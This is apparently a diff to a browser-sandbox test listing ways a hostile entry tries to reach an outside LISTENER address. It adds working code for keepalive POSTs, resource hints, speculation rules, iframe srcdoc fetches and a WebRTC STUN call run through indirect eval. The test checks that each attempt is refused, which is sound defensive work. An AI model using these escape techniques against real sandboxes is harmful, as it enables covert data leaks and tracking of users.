@@ -1,6 +1,8 @@
 // What a hostile entry tries. Each attempt ends as "refused …" or as what it got. APP and LISTENER are put in by the test.
 const app = "APP/from-the-entry";
 const away = "LISTENER/from-the-entry";
+// WebRTC asks a server of its choice which address this browser has; CALLED is a port that notes who asks.
+const call = `(async () => { const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:CALLED" }] }); peer.createDataChannel("x"); await peer.setLocalDescription(await peer.createOffer()); })()`;
 const wait = (time) => new Promise((resolve) => setTimeout(resolve, time));
 
 const loads = (element, address) =>
@@ -48,6 +50,28 @@ const attempts = {
   },
   "a socket": () => opens(new WebSocket(away.replace("http", "ws"))),
   "a stream of events": () => opens(new EventSource(away)),
+  "an import": () => import(away),
+  "an old request": () => new Promise((resolve, reject) => { const ask = new XMLHttpRequest(); ask.open("GET", away); ask.onload = resolve; ask.onerror = () => reject(new Error("error event")); ask.send(); }),
+  "a request that outlives the page": () => fetch(away, { method: "POST", body: "x", keepalive: true }),
+  "a film": () => loads(document.createElement("video"), { src: away }),
+  "an embedded page": () => loads(document.createElement("embed"), { src: away }),
+  "an object": () => loads(document.createElement("object"), { data: away }),
+  "a picture of a style": async () => { document.body.style.backgroundImage = `url(${away})`; await wait(300); throw new Error("not seen here"); },
+  "a font": () => new FontFace("x", `url(${away})`).load(),
+  "a look-up ahead": async () => { hint("dns-prefetch"); hint("preconnect"); hint("prerender"); hint("modulepreload"); await wait(300); throw new Error("not seen here"); },
+  "rules for pages ahead": async () => {
+    const rules = Object.assign(document.createElement("script"), { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ urls: [away] }], prerender: [{ urls: [away] }] }) });
+    document.head.append(rules);
+    await wait(500);
+    throw new Error("not seen here");
+  },
+  "a page within the page": async () => {
+    const frame = Object.assign(document.createElement("iframe"), { srcdoc: `<script>fetch("${away}", { mode: "no-cors" }); new Image().src = "${away}";</` + "script>" });
+    document.body.append(frame);
+    await wait(500);
+    throw new Error("not seen here");
+  },
+  "a call": async () => { await (0, eval)(call); await wait(1500); throw new Error("not seen here"); },
   "a worker": () =>
     new Promise((resolve, reject) => {
       const code = `fetch(${JSON.stringify(away)}).then(() => postMessage("reached"), (error) => postMessage("refused " + error))`;
@@ -74,6 +98,10 @@ const attempts = {
   "the camera": () => navigator.mediaDevices.getUserMedia({ video: true }),
   "the place": () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
 };
+
+function hint(rel) {
+  document.head.append(Object.assign(document.createElement("link"), { rel, href: away }));
+}
 
 function click(how) {
   const link = Object.assign(document.createElement("a"), { href: away, ...how });
